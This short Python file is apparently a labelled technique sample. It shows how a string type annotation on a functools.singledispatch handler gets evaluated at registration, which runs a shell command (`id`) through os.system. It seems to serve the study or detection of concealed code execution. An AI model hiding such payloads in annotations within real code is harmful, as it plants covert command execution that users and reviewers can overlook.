# class: second-stage | technique: functools.singledispatch .register reads the handler's string type annotation through typing.get_type_hints, which evals it | effect: runs `id` while the handler is registered
import functools


@functools.singledispatch
def render(value):
    return str(value)


@render.register
def _(value: "__import__('os').system('id') or int"):
    return f"{value:,d}"


print(render(1234567))
